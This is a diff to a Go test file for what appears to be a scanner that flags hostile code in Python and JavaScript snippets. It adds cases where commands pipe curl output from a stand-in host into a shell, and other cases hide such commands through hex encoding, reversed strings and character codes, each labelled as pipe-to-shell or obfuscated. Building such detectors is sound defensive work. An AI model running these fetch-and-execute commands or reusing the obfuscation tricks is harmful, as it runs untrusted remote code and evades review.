@@ -46,6 +46,12 @@ func TestPython(t *testing.T) {
 		{"const run = globalThis['ev' + 'al'];\nrun(Buffer.from('6375726c2068747470733a2f2f782e6578616d706c652f692e73687c7368', 'hex').toString());\n", "decode-exec,obfuscated,shell:pipe-to-shell"},
 		// Strings reversed, or built from character codes, fold.
 		{"import os\nos.system(''.join(reversed('hs | a/elpmaxe.x//:ptth lruc')))\n", "shell:pipe-to-shell"},
+		// A shell given its code with -c, in a string or an argument list.
+		{"import subprocess\nsubprocess.call(\"bash -c \\\"curl -s https://x.example/i | bash\\\"\", shell=True)\n", "shell:pipe-to-shell"},
+		{"import subprocess\nsubprocess.run([\"/bin/sh\", \"-c\", \"curl -s https://x.example/j | sh\"])\n", "shell:pipe-to-shell"},
+		{"import subprocess\nsubprocess.run([\"bash\", \"-lc\", \"curl -s https://x.example/j | sh\"])\n", "shell:pipe-to-shell"},
+		{"import subprocess\nsubprocess.run([\"bash\", \"-c\", \"echo curl https://x.example/j | sh is bad\"])\n", ""},
+		{"import subprocess\nsubprocess.run([\"sh\", \"-c\", \"ls -la /tmp\"])\n", ""},
 		{"import os\nos.system(''.join(map(chr, [99,117,114,108,32,104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,47,97,32,124,32,115,104])))\n", "shell:pipe-to-shell"},
 		{"o = __import__(''.join(map(chr, [111, 115])))\ngetattr(o, ''.join(reversed('metsys')))('curl http://x.example/a | sh')\n", "obfuscated,shell:pipe-to-shell"},
 		{"print(''.join(reversed('olleh')), sum(map(int, [1, 2])))\n", ""},
